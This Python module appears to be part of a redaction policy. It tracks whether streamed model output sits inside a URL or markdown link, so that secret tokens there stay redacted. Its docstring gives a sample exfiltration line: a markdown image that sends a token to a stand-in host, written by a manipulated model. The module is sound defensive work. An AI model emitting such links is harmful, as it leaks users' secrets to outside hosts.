"""Whether a growing text stands inside an address: there a token stays a token.

A model that was talked into it could write `![](https://elsewhere.example/?q=TOKEN)`; the client would fetch that
address with the value in it. When in doubt it counts as inside: the price is a token that a person sees.
"""

from __future__ import annotations

from typing import Final

from policies.transform.redact import unescaped

_SPACES: Final = " \t\r\n\f\v\0"  # the last stands between texts that are looked at together
_ENDS: Final = frozenset(_SPACES + '<>"')
_FRONTS: Final = _ENDS | frozenset("'`(=[{,;|")
_QUOTES: Final = frozenset("\"'`")
_SCHEME: Final = frozenset("abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789+.-")
_HOST: Final = frozenset("abcdefghijklmnopqrstuvwxyz0123456789.-")
_BEGINNINGS: Final = ("//", "](", "www.", "/", "?", "#")
_BRACKETED: Final = frozenset(">\n")  # `](<...>)` may hold spaces
_LOWER: Final = str.maketrans("ABCDEFGHIJKLMNOPQRSTUVWXYZ", "abcdefghijklmnopqrstuvwxyz")
_KEPT: Final = 40  # characters in front of what comes next
_FILLER: Final = "\u200b"


class Addresses:
    """Follows one text. inside: whether what comes next belongs to an address.

    source: the text is the source of JSON, whose escapes are looked through. string: it is a string by itself, as if a
    quote stood before it.
    """

    __slots__ = ("_ends", "_escape", "_tail", "inside", "source")

    def __init__(self, *, source: bool = False, string: bool = False) -> None:
        self.inside = False
        self.source = source
        self._ends = _ENDS
        self._escape = ""
        self._tail = '"' if string else "\n"

    def feed(self, text: str) -> None:
        """What the client sees next."""
        if self.source:
            text = self._escape + text
            seen = unescaped(text)
            self._escape = text[len(seen) :]
            text = seen.replace(_FILLER, "")
        at = 0
        while at < len(text):
            at = self._leave(text, at) if self.inside else self._enter(text, at)
        self._tail = (self._tail + text)[-_KEPT:]

    def _leave(self, text: str, at: int) -> int:
        """Go on to where the address ends."""
        for place in range(at, len(text)):
            letter = text[place]
            if letter not in self._ends:
                continue
            if letter == "<" and (self._tail + text[:place]).endswith("]("):
                self._ends = _BRACKETED
            elif letter in _QUOTES and letter != '"':
                self._ends = _ENDS  # it may still be a letter of the address
            else:
                self.inside = False
                return place
        return len(text)

    def _enter(self, text: str, at: int) -> int:
        """Go on to where an address begins."""
        before = len(self._tail)
        seen = (self._tail + text).translate(_LOWER)
        found = [end for sign in _BEGINNINGS if (end := _begun(seen, sign, before + at + 1 - len(sign))) >= 0]
        if not found:
            return len(text)
        end = min(found)
        self.inside = True
        self._ends = _ended_by(seen, end - 2) if seen.startswith("//", end - 2) else _ENDS
        return end - before


def _begun(seen: str, sign: str, start: int) -> int:
    """Where the first sign of an address at or after `start` ends, -1 where there is none."""
    place = seen.find(sign, max(start, 0))
    while place >= 0:
        front = seen[place - 1 : place]
        if sign == "](" or (sign == "www." and front not in _SCHEME):
            return place + len(sign)
        if sign == "//" and (front == ":" or front in _FRONTS):
            return place + len(sign)
        if len(sign) == 1 and _after_host(seen, place):
            return place + len(sign)
        place = seen.find(sign, place + 1)
    return -1


def _after_host(seen: str, place: int) -> bool:
    """Whether the name of a host stands right before `place`, as the first thing of a word: `a.example/`."""
    at = place
    while at > 0 and seen[at - 1] in _HOST:
        at -= 1
    first, _, last = seen[at:place].rpartition(".")
    return bool(first) and len(last) > 1 and last.isalpha() and first[0] != "." and (at == 0 or seen[at - 1] in _FRONTS)


def _ended_by(seen: str, place: int) -> frozenset[str]:
    """What ends an address whose slashes stand at `place`; after a quote it may hold spaces up to the next quote."""
    at = place - 1
    if seen[at] == ":":
        while at > 0 and seen[at - 1] in _SCHEME:
            at -= 1
        at -= 1
    quote = seen[at] if at >= 0 else " "
    return frozenset((quote, "\n")) if quote in _QUOTES else _ENDS
